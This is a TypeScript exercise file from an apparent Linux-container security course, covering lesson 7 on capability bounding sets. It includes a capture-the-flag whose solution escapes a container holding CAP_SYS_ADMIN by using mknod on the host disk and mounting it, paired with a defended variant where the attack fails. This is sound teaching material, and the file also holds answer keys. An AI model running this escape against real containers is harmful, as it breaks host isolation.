import { definePractice } from '../../src/engine/exercise.js';
import { flagLooted, flagStep } from '../common.js';
import type { Step } from '../../src/model/lesson.js';
import { BOX, BOX_NAMESPACES } from '../../src/box/box.js';
import { capsh } from '../../src/shell/capsh.js';
import { nsenterCmd } from '../../src/shell/nsenter.js';
import { WORK_PARENT } from '../../src/box/resources.js';
import { capMask, CAPABILITIES, DOCKER_DEFAULT_CAPS } from '../../src/kernel/capabilities.js';
import { described, cmd, render, type Cmd, shProgram } from '../../src/shell/cmd.js';
import { writeFile } from '../../src/shell/coreutils.js';
import type { Namespace } from '../../src/shell/unshare.js';

const NOT_DOCKER = CAPABILITIES.filter((c) => !DOCKER_DEFAULT_CAPS.includes(c));
const NO_NET_RAW = DOCKER_DEFAULT_CAPS.filter((c) => c !== 'cap_net_raw');
const NO_NET_RAW_MASK = capMask(NO_NET_RAW);
const NET_BIND_SERVICE_MASK = capMask(['cap_net_bind_service']);
const NOBODY = 65534;

/** The box's way in, as its runtime would give it (see boxDoor). */
export const DOOR = '${WORK}/enter';

/**
 * The box's runtime exec, written down as a script: the box's namespaces (`ns`), its root,
 * and only the capabilities the runtime keeps (capsh chroots first, then drops, as lesson 7's
 * payload launch does). A capture-the-flag's weak box and its defended box differ only in
 * `drop` (and what their setup mounts), so the same attack meets the kernel both ways.
 */
export function boxDoor(o: { title: string; drop: string[]; ns?: Namespace[] }): Step {
  const line = nsenterCmd({ target: BOX, ns: o.ns ?? BOX_NAMESPACES, root: '/', wd: '/' }, capsh({ chroot: `/proc/${BOX}/root`, drop: o.drop }, '/bin/sh'));
  const script = [
    '#!/bin/sh',
    "# This box's way in, as its runtime gives it (docker exec): the box's namespaces, its root,",
    '# and only the capabilities the runtime keeps. With no arguments, a shell in the box;',
    "# arguments go to that shell (e.g. -c 'id').",
    `exec ${render(line)} "$@"`,
    '',
  ].join('\n');
  return {
    id: 'door',
    title: o.title,
    feature: { name: 'bounding set', syscalls: ['prctl(2) PR_CAPBSET_DROP', 'setns(2)', 'chroot(2)'], man: ['capabilities(7)', 'capsh(1)', 'nsenter(1)'] },
    actions: [{ run: writeFile(DOOR, script) }, { run: cmd('chmod', '755', DOOR) }],
    checks: [
      {
        title: 'the way in keeps the capabilities the runtime says',
        fact: { out: cmd(DOOR, '-c', 'grep CapBnd /proc/self/status') },
        equals: `CapBnd:\t${capMask(CAPABILITIES.filter((c) => !o.drop.includes(c)))}`,
      },
    ],
  };
}

/** For each process in the box's PID namespace whose command is COMM, one line of its status. */
const boxProcesses = (comm: string, field: string): Cmd =>
  described(`the ${field}: line of /proc/PID/status of each ${comm} in the box's PID namespace`, shProgram(
    'sh',
    '-c',
    'for d in /proc/[0-9]*; do [ "$d/ns/pid" -ef "/proc/$1/ns/pid" ] && [ "$(cat "$d/comm")" = "$2" ] && grep "^$3:" "$d/status"; done 2>/dev/null; true',
    'sh',
    '${BOX}',
    comm,
    field,
  ));

/** The uid of the socket listening on TCP port 80 in the box's network namespace (v4 or v6). */
const PORT80_UID = described("the uid of the socket listening on port 80, in the box's /proc/PID/net/tcp and tcp6", shProgram('sh', '-c', 'awk \'$4 == "0A" && $2 ~ /:0050$/ { print $8; exit }\' "/proc/$1/net/tcp" "/proc/$1/net/tcp6" 2>/dev/null', 'sh', '${BOX}'));
/** The effective capabilities of the process holding that socket. */
const PORT80_CAPS = described('the CapEff: line of /proc/PID/status of the process whose fd is that socket', shProgram(
  'sh',
  '-c',
  'ino=$(awk \'$4 == "0A" && $2 ~ /:0050$/ { print $10; exit }\' "/proc/$1/net/tcp" "/proc/$1/net/tcp6" 2>/dev/null); [ -n "$ino" ] || exit 0; ' +
    'for d in /proc/[0-9]*; do if ls -l "$d/fd" 2>/dev/null | grep -q "socket:\\[$ino\\]"; then grep "^CapEff:" "$d/status"; exit 0; fi; done',
  'sh',
  '${BOX}',
));

// The weak box: Docker's 14, and CAP_SYS_ADMIN left on (docker run --cap-add SYS_ADMIN).
const LEAKY = NOT_DOCKER.filter((c) => c !== 'cap_sys_admin');
// Where the box's rootfs lives on a disk the box could mount (not a tmpfs): the work directory.
const ON_A_DISK = `d=$1; while [ ! -e "$d" ]; do d=\${d%/*}; done; test -b "$(findmnt -n -o SOURCE --target "$d")"`;

export default definePractice({
  lesson: 7,
  exercises: [
    {
      id: 'no-net-raw',
      title: "Docker's set without CAP_NET_RAW",
      goal: `In the box's namespaces, start \`sleep 1000\` whose bounding set is Docker's 14 capabilities minus CAP_NET_RAW: the 13 that remain (CapBnd ${NO_NET_RAW_MASK}), so that nothing it execs can open a raw socket.`,
      from: 'masks',
      checks: [
        {
          title: `a sleep in the box's PID namespace has the bounding set ${NO_NET_RAW_MASK}`,
          fact: { out: boxProcesses('sleep', 'CapBnd') },
          contains: `CapBnd:\t${NO_NET_RAW_MASK}`,
        },
      ],
      hints: [
        "The bounding set is the ceiling of a process's capabilities: what is not in it can never be gained again, by any exec. Keep Docker's 14 but CAP_NET_RAW, and start the sleep in the box's namespaces.",
        'nsenter(1) enters the box (--target "$BOX" and one flag per namespace: --mount --uts --ipc --net --pid --cgroup), and --root=/ --wd=/ keep the host\'s root so that the host\'s tools run (in the box\'s root, busybox would answer). setpriv(1) --bounding-set=-all,+NAME,... keeps only the capabilities named (without the cap_ prefix). capsh --decode=MASK names the bits of a mask.',
        'nsenter --target "$BOX" --mount --uts --ipc --net --pid --cgroup --root=/ --wd=/ setpriv --bounding-set=____ sleep 1000 &   (-all, then +name for each of the 13)',
      ],
      solution: `nsenter --target "$BOX" --mount --uts --ipc --net --pid --cgroup --root=/ --wd=/ setpriv --bounding-set=-all,${NO_NET_RAW.map((c) => `+${c.replace(/^cap_/, '')}`).join(',')} sleep 1000 &\nsleep 0.5`,
    },
    {
      id: 'port-80',
      title: 'port 80 as nobody',
      goal: `In the box, make \`nc -l -p 80\` (the box's busybox) listen on TCP port 80 as uid ${NOBODY}, not root, holding CAP_NET_BIND_SERVICE and no other capability.`,
      from: 'masks',
      checks: [
        { title: `the socket listening on port 80 in the box's network namespace belongs to uid ${NOBODY}`, fact: { out: PORT80_UID }, equals: String(NOBODY) },
        { title: `its process holds CAP_NET_BIND_SERVICE alone (CapEff ${NET_BIND_SERVICE_MASK})`, fact: { out: PORT80_CAPS }, equals: `CapEff:\t${NET_BIND_SERVICE_MASK}` },
        {
          title: 'ports below 1024 are still privileged in the box (ip_unprivileged_port_start)',
          fact: { out: cmd('nsenter', '--target', '${BOX}', '--net', 'cat', '/proc/sys/net/ipv4/ip_unprivileged_port_start') },
          equals: '1024',
        },
      ],
      hints: [
        "Binding a port below 1024 needs CAP_NET_BIND_SERVICE. A process that changes from root to another uid loses its capabilities, and a non-root exec gains none, unless they are in its ambient set: ambient capabilities survive execve(2) for an ordinary program (they must also be permitted and inheritable).",
        "capsh(1) does it in order, left to right: --chroot=/proc/$BOX/root first (that needs root's capabilities), then --inh=CAP (inheritable), --keep=1 (keep permitted across the uid change), --gid=N and --uid=N, --addamb=CAP (ambient), and --shell=PROGRAM -- ARGS execs the program. Start it with nsenter in the box's namespaces, keeping the host's root (--root=/ --wd=/) so that capsh is found.",
        'nsenter --target "$BOX" --mount --uts --ipc --net --pid --cgroup --root=/ --wd=/ capsh --chroot="/proc/$BOX/root" --inh=cap_net_bind_service --keep=1 --gid=65534 --uid=65534 --addamb=____ --shell=/bin/nc -- -l -p 80 &',
      ],
      solution:
        'nsenter --target "$BOX" --mount --uts --ipc --net --pid --cgroup --root=/ --wd=/ capsh --chroot="/proc/$BOX/root" --inh=cap_net_bind_service --keep=1 --gid=65534 --uid=65534 --addamb=cap_net_bind_service --shell=/bin/nc -- -l -p 80 &\nsleep 0.5',
    },
    {
      id: 'sys-admin-flag',
      title: 'capture the flag: CAP_SYS_ADMIN left on',
      goal:
        "This box's runtime kept Docker's 14 capabilities and CAP_SYS_ADMIN too. Enter the box as its runtime does, with $WORK/enter (cat it to see how), and from inside the box copy the host's flag ($WORK/flag on the host, outside the box) to /loot in the box ($ROOTFS/loot from the host).",
      from: 'masks',
      requires: [{ command: shProgram('sh', '-c', ON_A_DISK, 'on-a-disk', WORK_PARENT), reason: `the work directory (${WORK_PARENT}) is not on a block device (a tmpfs?): there is no disk for the box to mount` }],
      setup: [flagStep, boxDoor({ title: "the box's way in: Docker's 14 capabilities, and CAP_SYS_ADMIN", drop: LEAKY })],
      checks: [flagLooted('the box')],
      hints: [
        "CAP_SYS_ADMIN lets root mount filesystems, and CAP_MKNOD (one of Docker's 14) lets it make device nodes. The box's root is only a directory on the host's disk: the whole disk, flag included, is one mount away. The box's own /proc/self/mountinfo says which device that is (MAJOR:MINOR) and where the rootfs sits on it.",
        'In the box (busybox sh): find the line whose 5th field is / in /proc/self/mountinfo (field 3 is MAJOR:MINOR, field 4 the path of the rootfs on that filesystem, and the type follows the lone -); mknod(1) NAME b MAJOR MINOR makes the block device; mount(8) it on a new directory, then read the flag beside the rootfs there.',
        "$WORK/enter -c 'while read -r id parent dev path point opts rest; do [ \"$point\" = / ] && break; done < /proc/self/mountinfo; type=${rest#*- }; mknod /dev/hostdisk b ${dev%:*} ${dev#*:}; mkdir -p /host; ____ -t ${type%% *} /dev/hostdisk /host; cat \"/host${path%/rootfs}/flag\" > /loot'",
      ],
      solution: [
        "\"$WORK/enter\" -c '",
        '  # the line of / in the mount table of the box: its device, where the rootfs is on it, the type',
        '  while read -r id parent dev path point opts rest; do [ "$point" = / ] && break; done < /proc/self/mountinfo',
        '  type=${rest#*- }',
        '  mknod /dev/hostdisk b ${dev%:*} ${dev#*:}',
        '  mkdir -p /host',
        '  mount -t ${type%% *} /dev/hostdisk /host',
        '  cat "/host${path%/rootfs}/flag" > /loot',
        "'",
      ].join('\n'),
      defended: {
        from: 'masks',
        setup: [flagStep, boxDoor({ title: "the box's way in: Docker's 14 capabilities only", drop: NOT_DOCKER })],
        why: "Lesson 7's bounding set: Docker's 14 capabilities and no CAP_SYS_ADMIN. mknod still makes the device node (CAP_MKNOD), but mount(2) fails with EPERM, so the disk stays out of reach.",
      },
    },
  ],
});
